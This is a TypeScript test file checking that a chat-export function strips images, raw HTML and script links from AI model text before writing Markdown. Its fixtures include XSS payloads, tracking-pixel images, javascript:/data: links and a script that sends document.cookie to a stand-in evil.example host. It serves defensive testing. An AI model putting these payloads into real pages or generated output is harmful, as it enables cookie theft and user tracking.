/**
 * Issue 16 item 10: export.md neutralises images and raw HTML from model text, questions,
 * notices and transaction data as the page does (src/ui/markdown.ts): no markdown viewer
 * opening the file may load a remote image or run/inject HTML. Code stays verbatim.
 */
import { describe, expect, test } from "bun:test";
import { Marked } from "marked";
import type { AgentEvent } from "../../src/core/events.ts";
import type { Conversation } from "../../src/store/conversations.ts";
import type { TurnWithEvents } from "../../src/store/turns.ts";
import { exportMarkdown } from "../../src/web/export.ts";

const conversation: Conversation = { id: "c1", userId: "u", title: "Spending <img src=x onerror=alert(1)>", createdAt: "2026-01-01T00:00:00Z", updatedAt: "2026-01-02T00:00:00Z" };

function turn(question: string, events: AgentEvent[]): TurnWithEvents {
  return {
    id: "t1",
    conversationId: "c1",
    userId: "u",
    status: "done",
    model: "m",
    question,
    startedAt: "2026-01-01T00:00:00Z",
    endedAt: "2026-01-01T00:00:01Z",
    usage: { input_tokens: 0, output_tokens: 0, cache_creation_input_tokens: 0, cache_read_input_tokens: 0 },
    error: null,
    incomplete: false,
    pendingResults: [],
    continues: null,
    events,
  };
}

const modelText = [
  "Here is your summary. ![tracker](https://evil.example/pixel.gif?u=me) and ![ref image][r]",
  "",
  "Inline <img src=https://evil.example/a.png> and <b onclick=\"x()\">bold</b> and <span>ok</span>.",
  "",
  "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
  "",
  "<div><iframe src=\"https://evil.example\"></iframe></div>",
  "",
  "Code stays as written: `<img src=a>` and",
  "",
  "```html",
  "<b>literal</b> ![not an image](x.png)",
  "```",
  "",
  "A real [link](https://example.com) stays a link.",
  "",
  "[r]: https://evil.example/ref.png",
].join("\n");

const md = exportMarkdown(
  conversation,
  [
    turn("What about <img src=https://evil.example/q.png>? ![q](https://evil.example/q2.png)", [
      { type: "text", text: modelText },
      {
        type: "table",
        toolId: "x",
        table: { title: "Rows <svg onload=alert(1)>", columns: ["Description", "Amount"], kinds: ["text", "text"], totalRows: 2, rows: [["<img src=https://evil.example/t.png>", "1"], ["![t](https://evil.example/t2.png)", "2"]] },
      },
      { type: "notice", kind: "incomplete", message: "Cut <iframe src=https://evil.example>" },
    ]),
  ],
  "CHF",
);

// What a markdown viewer that trusts its input would make of the file.
const html = new Marked({ gfm: true }).parse(md, { async: false }) as string;

describe("export.md", () => {
  test("no image is rendered from it", () => {
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toContain("evil.example/pixel.gif\"");
  });

  test("no raw HTML passes through", () => {
    for (const tag of ["<script", "<iframe", "<svg", "<b onclick", "<span>", "<div>"]) expect(html.toLowerCase()).not.toContain(tag);
  });

  test("the text is still there to read: alt text and URLs, tags as text, code verbatim, real links", () => {
    expect(md).toContain("tracker");
    expect(md).toContain("https://evil.example/pixel.gif?u=me");
    expect(html).toContain("&lt;b onclick=");
    expect(md).toContain("```html\n<b>literal</b> ![not an image](x.png)\n```");
    expect(md).toContain("`<img src=a>`");
    expect(html).toContain('<a href="https://example.com">link</a>');
    expect(md).toContain("Here is your summary.");
  });
});

// Issue 25: links the page would not make links (javascript:, data:, vbscript:) were kept in the file.
describe("export.md: script links", () => {
  const text = [
    "Click [here](javascript:alert(1)) or [there](JaVaScRiPt:alert(2)) or [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).",
    "Also [vb](vbscript:msgbox(1)) and [by reference][j] and the real [docs](https://example.com/docs).",
    "",
    "[j]: javascript:alert(3)",
  ].join("\n");
  const out = exportMarkdown(conversation, [turn("links?", [{ type: "text", text }])], "CHF");
  const rendered = new Marked({ gfm: true }).parse(out, { async: false }) as string;

  test("none of them is a link in any viewer; their text and URL stay readable", () => {
    expect(rendered).not.toMatch(/href="(javascript|data|vbscript):/i);
    expect([...rendered.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1])).toEqual(["https://example.com/docs"]);
    expect(out).toContain("Click here (`javascript:alert(1)`) or there (`JaVaScRiPt:alert(2)`) or data (`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`).");
    expect(out).toContain("Also vb (`vbscript:msgbox(1)`) and by reference (`javascript:alert(3)`) and the real [docs](https://example.com/docs).");
  });
});
